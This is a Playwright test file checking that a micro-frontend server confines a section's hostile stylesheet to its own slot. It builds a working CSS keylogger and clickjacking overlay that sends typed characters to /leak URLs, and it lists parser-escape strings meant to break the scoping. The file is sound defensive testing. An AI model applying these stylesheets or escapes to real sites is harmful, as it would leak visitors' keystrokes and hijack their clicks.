import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Locator } from '@playwright/test';
import { parsePageData, PAGE_DATA_ID } from '@portico/contract/page-data';
import { builtRemote } from '@portico/testing/built-apps';
import { HostileCdn } from '@portico/testing/hostile-builds';
import { expect, serve, siteRemotes, test, workerPorts, writeConfig, type PorticoSite } from '../support/fixtures';
import { expectHydrated } from '../support/page-clock';

// Issue 46, "Home's stylesheet reads what a visitor types into Contact": a
// stylesheet added to Home's manifest with its hash, one `[value$="N"]`
// rule per character with a background image on Home's origin, an @import
// of CSS no publish checked, and an overlay on <body> over Contact's Send.
// The page links Home's stylesheets scoped to Home's slot
// (node-sections' scopeSectionStylesheet, server/src/ssr/section-styles.ts),
// and Contact's fields keep what is typed out of their markup. Both checked
// failing before the change: Home's origin was asked for /leak?… at each
// keystroke and for live.css, and the overlay was the element at Send's
// centre. The publish refusal of the same stylesheet, with its reasons:
// releases/src/checks/__tests__/publish-checks.test.ts.

const SLOT = 10;
const CHARACTERS = [...'0123456789 +abcdefghijklmnopqrstuvwxyzA'];

let cdn: HostileCdn;
test.beforeAll(async () => {
  cdn = await HostileCdn.start();
});
test.afterAll(async () => {
  await cdn.close();
});

/** Issue 46's stylesheet, with Home's origin (the CDN) as the place each keystroke is sent. */
function leakingStylesheet(origin: string): string {
  const leak = CHARACTERS.flatMap((character) =>
    ['name', 'telephone'].map(
      (field) => `#contact input[name=${field}][value$="${character}"]{background-image:url(${origin}/leak?${field}=${encodeURIComponent(character)})}`,
    ),
  );
  return [
    `@import url(${origin}/live.css);`,
    ...leak,
    // What typing does to a field's state, as any stylesheet sees it: a request at the first keystroke.
    `#contact input[name=telephone]:focus{background-image:url(${origin}/leak?focus)}`,
    'body:has(#contact:not([hidden]))::after{content:"";position:fixed;inset:0;z-index:2147483647;background:rgb(255 0 0 / 10%)}',
    '.home-styled-mark{color:rgb(1, 2, 3)}',
  ].join('\n');
}

/** Home's own stylesheets as built, to name beside the hostile one: the manifest then names every stylesheet its code uses. */
function builtHomeStylesheets(): Record<string, { css: string }> {
  const dist = builtRemote('remote-home');
  const manifest = JSON.parse(readFileSync(path.join(dist, 'mf-manifest.json'), 'utf8')) as {
    exposes: { path: string; assets: { css: { sync: string[] } } }[];
  };
  const names = manifest.exposes.find((expose) => expose.path === './section')!.assets.css.sync;
  return Object.fromEntries(names.map((name) => [name, { css: readFileSync(path.join(dist, name), 'utf8') }]));
}

/** The keystrokes into Contact that reach the CDN, and live.css, asked by the browser or by anyone. */
const leaks = (asked: readonly string[]) => [...asked, ...cdn.requests].filter((path) => path.includes('/leak') || path.includes('live.css'));

async function siteWithStyledHome(parallelIndex: number): Promise<PorticoSite & { close(): Promise<void> }> {
  const remotes: Record<string, string> = {
    home: cdn.publish('styled-home', 'remote-home'),
    about: cdn.publish('about', 'remote-about'),
    contact: cdn.publish('contact', 'remote-contact'),
  };
  cdn.styled('styled-home', { 'home-hostile.css': { css: leakingStylesheet(cdn.origin) } });
  const basePort = workerPorts(parallelIndex, SLOT);
  // A page budget a busy machine cannot miss: this test is of the server-rendered page (a page past its budget is the
  // browser's to render, with the scoped copies the test below checks).
  return serve(basePort, writeConfig(basePort, { remotes }), undefined, { budgetMs: 20_000 });
}

/** Whether what the page shows at `button`'s centre is that button: nothing of another section covers it. */
const onTopAtCentre = (button: Locator) =>
  button.evaluate((element) => {
    const box = element.getBoundingClientRect();
    return document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2)?.closest('button') === element;
  });

test("Home's stylesheet of issue 46: typing into Contact sends nothing to Home's origin, live.css is never asked for, and Send is not covered", async ({
  page,
}, testInfo) => {
  const site = await siteWithStyledHome(testInfo.parallelIndex);
  try {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(cdn.origin)) asked.push(new URL(request.url()).pathname + new URL(request.url()).search);
    });
    await page.goto(site.url);
    const data = await page.locator(`#${PAGE_DATA_ID}`).textContent();
    expect(parsePageData(data ?? '')?.rendered).toEqual(['home', 'about', 'contact']);
    // Home's stylesheet is on the page, as its copy from the page's origin: every rule Chromium holds of it is inside Home's slot.
    const rules = await page.evaluate(() =>
      [...document.styleSheets]
        .filter((sheet) => (sheet.ownerNode as Element | null)?.getAttribute('data-href')?.includes('/styled-home/'))
        .map((sheet) => ({ href: new URL(sheet.href!).pathname.split('/')[1], rules: [...sheet.cssRules].map((rule) => rule.cssText) })),
    );
    expect(rules).toEqual([{ href: 'section-styles', rules: [':where([data-section-island="home"]) .home-styled-mark { color: rgb(1, 2, 3); }'] }]);

    await page.getByRole('tab', { name: 'Contact us' }).click();
    const contact = page.getByRole('tabpanel', { name: 'Contact us' });
    const send = contact.getByRole('button', { name: 'Send message' });
    await expectHydrated(send);
    await contact.getByLabel('Name').pressSequentially('asha b');
    await contact.getByLabel('Telephone').pressSequentially('+91 98765 43210');

    // Send's centre is Send: nothing of Home's covers it.
    expect(await onTopAtCentre(send)).toBe(true);
    // The fields' markup holds nothing typed, so no attribute selector anywhere can read it.
    expect(await contact.getByLabel('Telephone').getAttribute('value')).toBeNull();

    await page.waitForLoadState('networkidle');
    expect(leaks(asked)).toEqual([]);
    expect(site.logged.filter((line) => line.includes('rules left out'))).toEqual([
      expect.stringContaining(`the home section's stylesheets: ${CHARACTERS.length * 2 + 3} rules left out, which would reach outside its slot`),
    ]);
  } finally {
    await site.close();
  }
});

// A section rendered in the browser gets its stylesheets as the page's
// origin scopes them too (contract's pageStylesheets, the loader's links,
// server/src/ssr/scoped-on-demand.ts): here the client-rendered page
// (no server rendering) with Home granted script, so the browser loads
// it, and its manifest naming issue 46's stylesheet beside its own.
// Checked failing before the change: Module Federation linked
// home-hostile.css from Home's origin as published, live.css and
// /leak?focus were asked for, and the overlay was at Send's centre.
test("a section rendered in the browser: issue 46's stylesheet is the page's scoped copy, so typing into Contact sends nothing to Home's origin and Send is not covered", async ({
  page,
}, testInfo) => {
  const basePort = workerPorts(testInfo.parallelIndex, SLOT);
  const home = cdn.publish('browser-home', 'remote-home');
  cdn.styled('browser-home', { ...builtHomeStylesheets(), 'home-hostile.css': { css: leakingStylesheet(cdn.origin) } });
  const site = await serve(
    basePort,
    writeConfig(basePort, { remotes: { ...siteRemotes(basePort), home }, sections: { home: { interactive: true } } }),
    undefined,
    false,
  );
  try {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(cdn.origin)) asked.push(new URL(request.url()).pathname + new URL(request.url()).search);
    });
    await page.goto(site.url);
    // Loaded in the browser, with its retries: within the 10 s a section has, on a busy machine too.
    await expect(page.getByRole('tabpanel', { name: 'Home' }).getByRole('heading', { level: 2 })).toBeVisible({ timeout: 30_000 });
    await page.getByRole('tab', { name: 'Contact us' }).click();
    const contact = page.getByRole('tabpanel', { name: 'Contact us' });
    const send = contact.getByRole('button', { name: 'Send message' });
    await contact.getByLabel('Name').pressSequentially('asha b');
    await contact.getByLabel('Telephone').pressSequentially('+91 98765 43210');
    expect(await onTopAtCentre(send)).toBe(true);
    await page.waitForLoadState('networkidle');
    expect(leaks(asked)).toEqual([]);
    // The loader's link, and Module Federation's copy of it (integrity-plugin.ts): both the page's scoped copy.
    const links = page.locator('link[rel="stylesheet"][data-href$="/browser-home/home-hostile.css"]');
    await expect(links.first()).toBeAttached();
    for (const link of await links.all()) await expect(link).toHaveAttribute('href', /^\/section-styles\/of\/home\?/);
    const hostile = links.first();
    await expect.poll(() => hostile.evaluate((link: HTMLLinkElement) => link.sheet?.cssRules.length ?? -1)).toBe(1);
    // Every stylesheet on the page is the page's own: none from Home's origin, the scoped copy's one rule inside Home's slot.
    const sheets = await page.evaluate(() => [...document.styleSheets].map((sheet) => sheet.href ?? 'inline'));
    expect(sheets.filter((href) => href.startsWith(cdn.origin))).toEqual([]);
    expect(await hostile.evaluate((link: HTMLLinkElement) => [...link.sheet!.cssRules].map((rule) => rule.cssText))).toEqual([
      ':where([data-section-island="home"]) .home-styled-mark { color: rgb(1, 2, 3); }',
    ]);
  } finally {
    await site.close();
  }
});

// A stylesheet the server could not fetch for a server-rendered page: the
// page asks for it scoped when it loads, never from the section's origin.
// Checked failing before the change: a CDN that answered the server after
// its 5 s got the page to link home-hostile.css from Home's origin, and the
// browser, which waits longer, applied it as published (live.css asked for).
test("a stylesheet the server could not fetch for the page is asked for scoped, never linked from the section's origin", async ({ page }, testInfo) => {
  test.setTimeout(90_000);
  const basePort = workerPorts(testInfo.parallelIndex, SLOT);
  const home = cdn.publish('slow-styles-home', 'remote-home');
  const [hostilePath] = cdn.styled('slow-styles-home', { 'home-hostile.css': { css: leakingStylesheet(cdn.origin) } });
  void cdn.slow(hostilePath!, 6000);
  const site = await serve(basePort, writeConfig(basePort, { remotes: { ...siteRemotes(basePort), home } }), undefined, { budgetMs: 20_000 });
  try {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(cdn.origin)) asked.push(new URL(request.url()).pathname);
    });
    // Rendered on the server once the plan has given up on the slow stylesheet (after its 5 s).
    await expect
      .poll(
        async () => {
          await page.goto(site.url);
          return parsePageData((await page.locator(`#${PAGE_DATA_ID}`).textContent()) ?? '')?.rendered ?? [];
        },
        { timeout: 30_000 },
      )
      .toContain('home');
    await page.waitForLoadState('networkidle');
    expect(asked.filter((path) => path.endsWith('.css'))).toEqual([]);
    expect(leaks(asked)).toEqual([]);
    const link = page.locator('link[rel="stylesheet"][data-href$="/slow-styles-home/home-hostile.css"]');
    await expect(link).toHaveAttribute('href', /^\/section-styles\/of\/home\?/);
  } finally {
    await site.close();
  }
});

// A section granted no script keeps what its stylesheets draw in its panel
// (app.css's section-panel--contained): a fixed box over the whole screen,
// scoped to Home's slot as the publish check allows, covers Home's panel
// only. Checked failing before the change: the box was the element at
// every tab's centre and at the footer's e-mail.
test("a static section's fixed box covers its own panel only: the tabs and the footer are still what is under the pointer", async ({ page }, testInfo) => {
  const basePort = workerPorts(testInfo.parallelIndex, SLOT);
  const home = cdn.publish('covering-home', 'remote-home');
  cdn.styled('covering-home', {
    'home-cover.css': { css: 'div::after{content:"";position:fixed;inset:0;z-index:2147483647;background:rgb(255 0 0 / 10%)}' },
  });
  const site = await serve(basePort, writeConfig(basePort, { remotes: { ...siteRemotes(basePort), home } }), undefined, { budgetMs: 20_000 });
  try {
    await page.goto(site.url);
    const panel = page.getByRole('tabpanel', { name: 'Home' });
    await expect(panel).toBeVisible();
    const under = (selector: string) =>
      page.evaluate((wanted) => {
        const element = document.querySelector(wanted)!;
        const box = element.getBoundingClientRect();
        const found = document.elementFromPoint(box.left + box.width / 2, box.top + Math.min(box.height / 2, 20));
        return found === element || element.contains(found)
          ? 'itself'
          : (found?.closest('[data-section-island]')?.getAttribute('data-section-island') ?? found?.tagName);
      }, selector);
    // The control: Home's box is drawn, over its own panel.
    expect(await under('#home h2')).toBe('home');
    for (const tab of await page.getByRole('tab').all()) {
      expect(
        await tab.evaluate((element) => {
          const box = element.getBoundingClientRect();
          return document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2)?.closest('[role="tab"]') === element;
        }),
      ).toBe(true);
    }
    await page.locator('.site-footer a[href^="mailto:"]').scrollIntoViewIfNeeded();
    expect(await under('.site-footer a[href^="mailto:"]')).toBe('itself');
  } finally {
    await site.close();
  }
});

// What the scoping writes is what Chromium applies: each stylesheet below
// (escapes a parser that reads differently from the browser would let
// through, and the issue's) scoped for Home and put on a page with Home's
// and Contact's slots; every style rule Chromium holds, at any depth,
// starts with Home's slot, and nothing outside Home's slot is styled.
const ESCAPES = [
  '.z{color:"x\n}body{outline:9px solid red}',
  '.z{background:url(x.png\n}body{outline:9px solid red}',
  '.z{color:red}/* } body{outline:9px solid red} */',
  '.z{content:"\\"}body{outline:9px solid red}"}',
  '@media screen{}}body{outline:9px solid red}',
  '.z{color:red;}body{outline:9px solid red}{',
  '.z:is(body *){outline:9px solid red}',
  '.z{color:red}\\',
  '@media (min-width:1px){body{outline:9px solid red}.z{outline:1px solid}}',
  '<!-- body{outline:9px solid red} -->',
  '.z,body{outline:9px solid red}',
  '#contact input[value$="9"], .z::after{outline:9px solid red}',
];

test('in Chromium, every rule of a scoped stylesheet is inside its slot, and nothing outside it is styled', async ({ page }) => {
  const { scopeSectionStylesheet } = await import('@portico/node-sections');
  for (const source of ESCAPES) {
    const { css } = scopeSectionStylesheet(source, { section: 'home', url: 'https://home.example/a.css', origin: 'https://home.example' });
    await page.setContent(
      '<main><section id="home"><div data-section-island="home"><p class="z">home</p></div></section><section id="contact"><div data-section-island="contact"><input name="telephone" value="9"><p class="z">contact</p></div></section></main>',
    );
    await page.addStyleTag({ content: `${css}\n` });
    const found = await page.evaluate(() => {
      const selectors: string[] = [];
      const walk = (rules: CSSRuleList) => {
        for (const rule of rules) {
          if (rule instanceof CSSStyleRule) selectors.push(...rule.selectorText.split(/,(?![^(]*\))/).map((selector) => selector.trim()));
          else if ('cssRules' in rule) walk((rule as CSSGroupingRule).cssRules);
        }
      };
      walk(document.styleSheets[0]!.cssRules);
      const outside = [document.body, document.querySelector('#contact .z')!, document.querySelector('#contact input')!];
      return { selectors, styled: outside.map((element) => getComputedStyle(element).outlineStyle) };
    });
    for (const selector of found.selectors) expect(selector, source).toMatch(/^:where\(\[data-section-island="home"\]\) /);
    expect(found.styled, source).toEqual(['none', 'none', 'none']);
  }
});
